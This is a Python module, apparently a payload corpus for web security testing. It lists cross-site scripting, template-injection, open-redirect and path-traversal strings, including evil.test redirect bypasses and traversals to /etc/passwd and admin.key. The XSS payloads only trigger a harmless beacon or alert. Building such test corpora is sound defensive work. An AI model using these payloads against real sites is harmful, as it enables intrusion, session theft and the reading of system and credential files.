"""Texts that attack a site which does not escape what people and harvested sites supply."""

from __future__ import annotations

from typing import Final

BEACON: Final = "xssfired"
"""A payload that runs sets this property of the window, opens a dialog, or requests this path."""
_RUN: Final = f"window.{BEACON}=1;alert(1)"

SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</option></select><script>{_RUN}</script>",
    f"</pre></td></tr></table><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT SRC=/{BEACON}></SCRIPT>",
    f"<script/src=/{BEACON}></script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img src=/{BEACON}>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f'" autofocus onfocus="{_RUN}',
    f"` onerror=`{_RUN}`",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=/{BEACON}>",
    f"<link rel=stylesheet href=/{BEACON}>",
    f"<meta http-equiv=refresh content='0;url=/{BEACON}'>",
    f"<base href=//{BEACON}.test/>",
    f"<form action=/{BEACON}><input type=submit autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>",
    f"<style>@import '/{BEACON}';</style>",
    f"<div style=background:url(/{BEACON})>",
    f"<div hx-get=/{BEACON} hx-trigger=load></div>",
    f"<div hx-on:load='{_RUN}' data-hx-get=/{BEACON} data-hx-trigger=load></div>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "{{ 7*7 }}{{ config }}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\u202e<script>{_RUN}</script>\u2066",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
)

REDIRECTS: Final = (
    *("//evil.test", "//evil.test/%2e%2e", "///evil.test", "////evil.test", "/\\evil.test", "\\/evil.test", "\\\\evil"),
    *("https:evil.test", "https:/evil.test", "https://evil.test", "HTTPS://evil.test", "http:evil.test", "evil.test"),
    *("javascript:alert(1)", "data:text/html,x", "\t//evil.test", "/\t/evil.test", "/\n/evil.test", "/\r/evil.test"),
    *(" //evil.test", "/ /evil.test", "\x00//evil.test", "/\x0b/evil.test", "//evil.test@127.0.0.1", "@evil.test"),
    *(".evil.test", ":80", "?//evil.test", "#//evil.test", "\u2028//evil.test", "https:\u3002evil"),
)

TRAVERSALS: Final = (
    *("../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    *("..%252f..%252fetc%252fpasswd", "..%5c..%5cetc%5cpasswd", "....//....//etc/passwd", "..;/..;/etc/passwd"),
    *("%2fetc%2fpasswd", "//etc/passwd", "..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/etc/passwd", "..%00/etc/passwd"),
    *("admin.key", "../admin.key", "../../admin.key", "..%2fadmin.key", "%2e%2e%2fadmin.db", "..%ef%bc%8fadmin.key"),
)
